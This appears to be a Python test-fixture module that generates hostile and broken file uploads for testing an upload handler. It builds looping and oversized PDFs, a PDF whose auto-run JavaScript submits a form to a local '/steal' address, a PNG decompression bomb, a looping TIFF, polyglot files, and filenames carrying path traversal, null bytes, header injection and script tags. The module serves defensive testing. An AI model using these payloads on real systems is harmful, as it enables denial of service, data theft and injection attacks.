"""A corpus of hostile and broken uploads, built in memory (small: the largest is ~400 kB).

Each entry: (id, filename, bytes). PDFs are written by hand (``pdf_of``) so each can break one
rule: a page tree that loops, ten thousand pages, a 200-inch page, JavaScript, encryption.
"""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache

from PIL import Image, ImageDraw


def pdf_of(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table; ``objects[i]`` is object ``i + 1``."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer_extra,
        xref,
    )
    return bytes(out)


def _page(parent: int, media: bytes = b"[0 0 595 842]", extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent %d 0 R /MediaBox %s %s>>" % (parent, media, extra)


def pdf_recursive() -> bytes:
    """The page tree's Kids point back at the tree itself."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        ]
    )


def pdf_many_pages(n: int = 10_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(n))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
    ]
    objs += [_page(2) for _ in range(n)]
    return pdf_of(objs)


def pdf_huge_page() -> bytes:
    """A 200 x 200 inch page (the largest PDF allows), UserUnit 75 on top."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(2, b"[0 0 14400 14400]", b"/UserUnit 75 "),
        ]
    )


def pdf_javascript() -> bytes:
    js = b"app.alert('x'); this.submitForm('http://127.0.0.1:9/steal');"
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 5 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(2, extra=b"/AA << /O 4 0 R >> "),
            b"<< /S /JavaScript /JS (%s) >>" % js,
            b"<< /Names [(x) 4 0 R] >>",
        ]
    )


def pdf_encrypted() -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    enc = StandardEncryption("user-secret", ownerPassword="owner-secret", strength=128)
    c = canvas.Canvas(buf, encrypt=enc)
    c.drawString(72, 720, "SIJIL CUTI SAKIT 870903-10-6231")
    c.showPage()
    c.save()
    return buf.getvalue()


def tiff_many_frames(n: int = 50_000, loop_at: int | None = None) -> bytes:
    """A little-endian TIFF of ``n`` 1x1 grey frames (~103 bytes each: 50,000 make ~5 MB).

    Each frame is a pixel byte then its directory (8 tags), chained to the next. With
    ``loop_at``, the last directory points back to frame ``loop_at``'s (a loop)."""
    out = bytearray(b"II*\x00" + struct.pack("<I", 0))
    ifd_at: list[int] = []
    for i in range(n):
        pixel_at = len(out)
        out += b"\x80\x00"  # the pixel, and a pad byte so the directory is word-aligned
        ifd_at.append(len(out))
        tags = [(256, 3, 1), (257, 3, 1), (258, 3, 8), (259, 3, 1), (262, 3, 1)]
        tags += [(273, 4, pixel_at), (278, 3, 1), (279, 4, 1)]
        out += struct.pack("<H", len(tags))
        for tag, kind, value in tags:
            out += struct.pack("<HHII", tag, kind, 1, value)
        next_at = len(out) + 4 + 2 if i < n - 1 else 0  # past the next pixel and pad
        if i == n - 1 and loop_at is not None:
            next_at = ifd_at[loop_at]
        out += struct.pack("<I", next_at)
    struct.pack_into("<I", out, 4, ifd_at[0])
    return bytes(out)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(side: int = 100_000) -> bytes:
    """A 100,000 x 100,000 (10 gigapixel) 1-bit PNG whose rows of zeros compress to ~1 MB."""
    row = b"\x00" + b"\x00" * (side // 8)
    comp = zlib.compressobj(9)
    body = bytearray()
    for _ in range(800):  # enough rows to be a real stream start; the header is what counts
        body += comp.compress(row)
    body += comp.flush(zlib.Z_SYNC_FLUSH)
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", bytes(body))
        + png_chunk(b"IEND", b"")
    )


@cache
def small_png(text: str = "SIJIL CUTI SAKIT") -> bytes:
    img = Image.new("L", (900, 600), 255)
    ImageDraw.Draw(img).text((40, 40), text, fill=0)
    out = io.BytesIO()
    img.save(out, "PNG")
    return out.getvalue()


def small_jpeg() -> bytes:
    out = io.BytesIO()
    Image.open(io.BytesIO(small_png())).save(out, "JPEG", quality=80)
    return out.getvalue()


def png_corrupt_body() -> bytes:
    """A right signature and IHDR, then garbage where the pixels should be."""
    good = small_png()
    ihdr_end = 8 + 25
    return good[:ihdr_end] + png_chunk(b"IDAT", b"\x13\x37" * 5000) + png_chunk(b"IEND", b"")


def polyglot_pdf_html() -> bytes:
    """Starts as HTML with a script, carries '%PDF-' inside its first kilobyte."""
    html = b"<html><body><script>alert(document.cookie)</script>\n"
    return html + pdf_javascript()


def polyglot_png_zip() -> bytes:
    """A valid PNG with a ZIP archive appended (a GIFAR-style polyglot)."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("evil.html", "<script>alert(1)</script>")
    return small_png() + buf.getvalue()


def jpeg_with_pdf_magic() -> bytes:
    """A JPEG whose comment segment holds '%PDF-': sniffers that search for it mis-type it."""
    jpg = small_jpeg()
    comment = b"%PDF-1.7 not really"
    seg = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpg[:2] + seg + jpg[2:]


def corpus() -> list[tuple[str, str, bytes]]:
    pdf_ok = pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(2),
        ]
    )
    return [
        ("zero_bytes", "empty.pdf", b""),
        ("truncated_pdf", "cut.pdf", pdf_ok[: len(pdf_ok) // 2]),
        ("truncated_png", "cut.png", small_png()[:-200]),
        ("truncated_jpeg", "cut.jpg", small_jpeg()[:-300]),
        ("corrupt_pdf", "bad.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 200 + b"\n%%EOF\n"),
        ("corrupt_png_body", "bad.png", png_corrupt_body()),
        ("encrypted_pdf", "locked.pdf", pdf_encrypted()),
        ("recursive_pdf", "loop.pdf", pdf_recursive()),
        ("ten_thousand_pages", "many.pdf", pdf_many_pages()),
        ("huge_page_pdf", "huge.pdf", pdf_huge_page()),
        ("javascript_pdf", "js.pdf", pdf_javascript()),
        ("png_decompression_bomb", "bomb.png", png_bomb()),
        ("polyglot_html_pdf", "poly.pdf", polyglot_pdf_html()),
        ("polyglot_png_zip", "poly.png", polyglot_png_zip()),
        ("jpeg_with_pdf_magic", "photo.jpg", jpeg_with_pdf_magic()),
        ("exe_as_png", "mc.png", b"MZ\x90\x00" + b"\x00" * 4000),
        ("html_as_pdf", "mc.pdf", b"<html><script>alert(1)</script></html>"),
        ("svg_as_png", "mc.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
    ]


HOSTILE_NAMES = [
    "../../../../etc/passwd.png",
    "..\\..\\..\\windows\\win.ini.png",
    "/abs/olute/path.png",
    "mc\x00.png",
    "mc\r\nContent-Type: text/html\r\n\r\n<script>.png",
    "\x1b[31mred\x07\x08.png",
    "a" * 1000 + ".png",
    "‮gnp.exe",  # right-to-left override
    "..",
    "CON.png",
    "<script>alert(1)</script>.png",
]
